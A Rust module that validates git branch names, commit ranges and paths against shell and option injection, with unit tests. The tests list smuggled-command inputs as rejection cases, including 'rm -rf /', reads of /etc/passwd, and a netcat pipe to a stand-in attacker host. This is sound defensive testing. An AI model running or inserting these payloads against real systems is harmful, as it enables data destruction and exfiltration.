//! Validation for user-supplied git inputs.
//!
//! Everything that ends up on a git command line passes through one of these
//! checks first. Failing values are rejected before any process is spawned.

use lazy_static::lazy_static;
use regex::Regex;

lazy_static! {
    static ref SAFE_BRANCH: Regex = Regex::new(r"^[A-Za-z0-9/_.-]+$").unwrap();
    static ref SAFE_REVISION: Regex = Regex::new(r"^[A-Za-z0-9~^./_-]+$").unwrap();
}

/// Characters that have meaning to a shell. Never valid in any input.
pub const SHELL_METACHARACTERS: &[char] = &[';', '&', '|', '$', '`', '\n', '\r'];

fn has_shell_metacharacters(value: &str) -> bool {
    value.contains(SHELL_METACHARACTERS)
}

/// Check a branch name.
///
/// Accepts letters, digits, `/`, `_`, `-` and `.`. Rejects names that start
/// with `.` or `-` and anything containing `..`.
pub fn is_valid_branch_name(branch: &str) -> bool {
    if branch.is_empty() || branch.contains("..") {
        return false;
    }
    if branch.starts_with('.') || branch.starts_with('-') {
        return false;
    }
    SAFE_BRANCH.is_match(branch)
}

/// Check a commit range of the form `<rev>..<rev>`.
///
/// Each side may use `~`, `^`, `/`, `_`, `-` and `.` besides alphanumerics,
/// but must not start with `-` or `.`. Three-dot ranges are rejected.
pub fn is_valid_commit_range(range: &str) -> bool {
    if range.is_empty() || has_shell_metacharacters(range) || range.starts_with('-') {
        return false;
    }

    let Some((base, head)) = range.split_once("..") else {
        return false;
    };

    is_valid_revision(base) && is_valid_revision(head)
}

/// Check one side of a commit range.
pub fn is_valid_revision(rev: &str) -> bool {
    !rev.is_empty()
        && !rev.starts_with('-')
        && !rev.starts_with('.')
        && !rev.contains("..")
        && SAFE_REVISION.is_match(rev)
}

/// Check a repository-relative file path filter.
pub fn is_valid_path(path: &str) -> bool {
    if path.is_empty() || path.starts_with('-') || has_shell_metacharacters(path) {
        return false;
    }
    !normalize_path(path).contains("..")
}

/// Convert Windows separators to the forward slashes git expects.
pub fn normalize_path(path: &str) -> String {
    path.replace('\\', "/")
}

/// Split a validated commit range into its two revisions.
pub fn split_commit_range(range: &str) -> Option<(&str, &str)> {
    if !is_valid_commit_range(range) {
        return None;
    }
    range.split_once("..")
}

/// Find the first argument that could not be passed safely to a process.
///
/// Arguments are never interpreted by a shell, but embedded NUL bytes or line
/// breaks would still corrupt the argument vector or log output.
pub fn find_unsafe_arg<S: AsRef<str>>(args: &[S]) -> Option<&str> {
    args.iter()
        .map(AsRef::as_ref)
        .find(|arg| arg.contains(&['\0', '\n', '\r'][..]))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_valid_branch_names() {
        for branch in [
            "main",
            "develop",
            "feature/my-feature",
            "bugfix/issue-123",
            "release/1.0.0",
            "feature_test",
            "release-v1.0",
        ] {
            assert!(is_valid_branch_name(branch), "{branch} should be valid");
        }
    }

    #[test]
    fn test_branch_traversal_and_options_rejected() {
        for branch in [
            "",
            "../../etc/passwd",
            "feature/../../../etc",
            ".hidden",
            "..",
            "--help",
            "-option",
            "branch with spaces",
            "branch@special",
            "branch$dollar",
            "; rm -rf /",
            "branch;malicious",
        ] {
            assert!(!is_valid_branch_name(branch), "{branch:?} should be rejected");
        }
    }

    #[test]
    fn test_valid_commit_ranges() {
        for range in [
            "HEAD~1..HEAD",
            "HEAD~5..HEAD",
            "abc123..def456",
            "main..feature-branch",
            "v1.0.0..v2.0.0",
            "HEAD^..HEAD",
            "origin/main..HEAD",
            "HEAD~3..HEAD~1",
            "abc123^..abc123",
        ] {
            assert!(is_valid_commit_range(range), "{range} should be valid");
        }
    }

    #[test]
    fn test_commit_range_injection_rejected() {
        for range in [
            "",
            "HEAD",
            "HEAD; rm -rf /",
            "HEAD~1..HEAD; rm -rf /",
            "HEAD && cat /etc/passwd",
            "HEAD | nc attacker.com 1234",
            "HEAD`malicious`..HEAD",
            "HEAD$x..HEAD",
            "HEAD\n..HEAD",
            "--help",
            "-a..HEAD",
            "HEAD..--output=/tmp/x",
            "main...feature",
            "..HEAD",
            "HEAD..",
        ] {
            assert!(!is_valid_commit_range(range), "{range:?} should be rejected");
        }
    }

    #[test]
    fn test_paths() {
        assert!(is_valid_path("src/main.rs"));
        assert!(is_valid_path("docs/README.v2.md"));
        assert!(is_valid_path("src\\windows\\file.rs"));
        assert!(!is_valid_path(""));
        assert!(!is_valid_path("../../etc/passwd"));
        assert!(!is_valid_path("src\\..\\..\\secret"));
        assert!(!is_valid_path("--output=x"));
        assert!(!is_valid_path("file.rs; rm -rf /"));
    }

    #[test]
    fn test_split_commit_range() {
        assert_eq!(split_commit_range("HEAD~1..HEAD"), Some(("HEAD~1", "HEAD")));
        assert_eq!(split_commit_range("HEAD~1..HEAD; ls"), None);
    }

    #[test]
    fn test_find_unsafe_arg() {
        assert_eq!(find_unsafe_arg(&["diff", "HEAD"]), None);
        assert_eq!(find_unsafe_arg(&["diff", "a\nb"]), Some("a\nb"));
    }
}
